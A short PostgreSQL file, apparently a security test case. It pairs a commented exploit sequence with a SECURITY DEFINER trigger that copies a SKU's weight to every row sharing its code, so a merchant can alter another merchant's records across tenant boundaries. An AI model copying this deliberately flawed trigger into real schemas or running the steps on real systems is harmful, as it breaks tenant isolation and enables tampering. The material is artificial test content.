-- A merchant changes the weight in the articles of others that carry the same code.
-- about: share_weight, skus
-- as: hf_warehouse_app
-- exploit: SET wh.merchant_id = '11';
-- exploit: UPDATE wh.skus SET grams = 98765 WHERE sku_no = 102;
-- exploit: SET wh.merchant_id = '22';
-- exploit: SELECT title, grams / 5 FROM wh.skus WHERE sku_no = 202;
-- shows: 19753
-- An article is weighed once: whoever has the same code gets the new weight too.
CREATE FUNCTION wh.share_weight() RETURNS trigger
LANGUAGE plpgsql SECURITY DEFINER SET search_path = pg_catalog, pg_temp
AS $$
BEGIN
  UPDATE wh.skus s SET grams = NEW.grams WHERE s.code = NEW.code AND s.grams <> NEW.grams;
  RETURN NULL;
END
$$;
REVOKE ALL ON FUNCTION wh.share_weight() FROM PUBLIC;
CREATE TRIGGER share_weight AFTER UPDATE OF grams ON wh.skus
  FOR EACH ROW WHEN (pg_trigger_depth() = 0) EXECUTE FUNCTION wh.share_weight();
